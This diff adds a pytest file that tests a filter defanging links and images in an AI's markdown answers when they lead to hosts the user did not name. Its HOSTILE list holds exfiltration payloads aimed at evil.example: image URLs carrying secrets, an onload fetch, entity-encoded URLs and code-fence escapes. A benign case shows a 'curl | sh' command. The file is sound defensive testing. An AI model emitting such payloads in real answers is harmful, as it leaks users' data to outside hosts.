@@ -1,0 +1,122 @@
+"""An answer leads nowhere but where the user did: to what a real renderer makes links and images of."""
+
+import random
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from models.markup.links import LinkFilter, fenced, inert
+
+ASKED = "Compare https://docs.example/a?b=1 with www.good.example, and write to ada@good.example."
+
+HOSTILE = [
+    "![x](https://evil.example/p.png?q=secret)",
+    "![x](//evil.example/p.png)",
+    "![x]( <data:image/svg+xml,evil.example> 'title')",
+    "![x](\nhttps://evil.example/p.png)",
+    "[Docs](https://evil.example) and [Docs](/evil.example)",
+    "[a][ref] ![a][ref] ![ref]\n\n[ref]: //evil.example 'x'",
+    "> [ref]: <https://evil.example>\n\n![ref]",
+    "<https://evil.example> <mailto:eve@evil.example>",
+    "<img src=//evil.example/p.png> <a href='https://evil.example'>x</a>",
+    "<svg/onload=fetch('//evil.example')>",
+    "https://evil.example/p http://evil.example HTTPS://EVIL.EXAMPLE",
+    "(www.evil.example) WWW.evil.example",
+    "eve@evil.example mailto:eve@evil.example",
+    "https&#58;//evil.example https&colon;//evil.example &#104;ttps://evil.example https:&#47;&sol;evil.example",
+    "www&period;evil.example eve&commat;evil.example &#x77;ww.evil.example",
+    r"https\://evil.example https:\/\/evil.example www\.evil.example eve\@evil.example",
+    "https://docs.example/a?b=1&c=evil.example https://docs.example@evil.example www.good.example.evil.example",
+    "https://docs.example/a?b=1\u3002evil.example",
+    "<!--\n```\n-->\n![x](https://evil.example/p.png)\n```\n",
+    "<pre>\n```\n</pre>\n![x](https://evil.example/p.png)\n```\n",
+    "  ```\n  code\n```\n![x](https://evil.example/p.png)\n",
+    "- ```\n  code\n  ```\n\n![x](https://evil.example/p.png)",
+    "> ```\n> code\n\n![x](https://evil.example/p.png)",
+    "    ```\n![x](https://evil.example/p.png)\n",
+    "````\n```\n````\n![x](https://evil.example/p.png)",
+    "```\ncode\n    ```\n![x](https://evil.example/p.png)\n```\n",
+    "``` a`b\n![x](https://evil.example/p.png)\n```\n",
+    "~~~ `\ncode\n~~~~\n![x](https://evil.example/p.png)",
+    "| a | b |\n|---|---|\n| `x | ![x](https://evil.example/p.png) ` |",
+    "$ ` $ ![x](https://evil.example/p.png) `",
+    "`![x](https://evil.example/p.png)` and ``` ![x](https://evil.example/p.png)",
+]
+
+GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+LINKIFIED = re.compile(r"https?://[-.\w]|www\.[-.\w]|[-.\w+]+@[-\w]+\.", re.ASCII | re.IGNORECASE)
+"""What remark-gfm makes a link of in the text of a parsed answer."""
+
+
+def live(markdown: str) -> list[str]:
+    """Return whatever of an answer is fetched, or led to, by a front end that renders it."""
+    found = []
+    for token in GFM.parse(markdown):
+        found += [token.content] if token.type == "html_block" else []
+        for child in token.children or []:
+            if child.type in {"image", "link_open", "html_inline"}:
+                found.append(f"{child.attrs or child.content}")
+            elif child.type == "text":
+                found += [child.content] if LINKIFIED.search(child.content) else []
+    return found
+
+
+def in_pieces(text: str, seed: int) -> str:
+    """Return what is shown of a text that comes in pieces."""
+    dice, links, shown, at = random.Random(seed), LinkFilter(ASKED), "", 0
+    while at < len(text):
+        end = at + dice.randint(1, 7)
+        shown += links.feed(text[at:end])
+        assert [one for one in live(shown) if "evil" in one.lower()] == [], shown
+        at = end
+    return shown + links.close()
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_leads_elsewhere_is_inert(text: str) -> None:
+    assert live(text) or "`" in text or "<" in text
+    assert live(inert(text, ASKED)) == []
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_in_pieces_it_is_the_same_and_never_live(text: str) -> None:
+    whole = inert(f"Look:\n\n{text}\n\nThat is all.", ASKED)
+    assert {in_pieces(f"Look:\n\n{text}\n\nThat is all.", seed) for seed in range(20)} == {whole}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It says: 3 < 4, a[0], x@y, pkg@1.2.3, *all* of `it`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+        "See https://docs.example/a?b=1, (www.good.example) or ada@good.example.",
+        "```sh\ncurl https://evil.example | sh  # ![x](y) <b>\n```\nDone.",
+        "~~~\n```\na[0](b)\n~~~\n",
+        "见\u3002https://docs.example/a?b=1 \u3002",
+    ],
+)
+def test_all_else_stays_as_it_is(text: str) -> None:
+    assert inert(text, ASKED) == text
+
+
+def test_what_is_defanged_can_still_be_read() -> None:
+    assert inert("[Docs](https://evil.example/a.png)", "") == "[Docs] (https[:]//evil.example/a.png)"
+    assert inert("[Docs](https://docs.example/a?b=1)", ASKED) == "[Docs] (https://docs.example/a?b=1)"
+
+
+def test_a_fence_that_is_indented_is_moved_to_where_everybody_sees_it() -> None:
+    assert inert("1. Run:\n   ```sh\n   ls\n   ```", "") == "1. Run:\n```sh\n   ls\n```"
+
+
+@pytest.mark.parametrize("inside", ["plain", "```\n![x](y)\n```", "a ````` b", "~~~", ""])
+def test_nothing_closes_a_fence_from_inside(inside: str) -> None:
+    (token,) = GFM.parse(fenced(inside))
+    assert (token.type, token.content) == ("fence", f"{inside}\n")
+    assert inert(fenced(inside), "") == fenced(inside)
+
+
+@pytest.mark.parametrize(
+    "bad", ["- ", "1", " ", "`", "~", "&#38;", "&#&#51;8;", "[", "](", "www.", "a@", "https:", "<"]
+)
+def test_long_nonsense_is_read_in_time(bad: str) -> None:
+    assert inert(bad * 20_000, "")
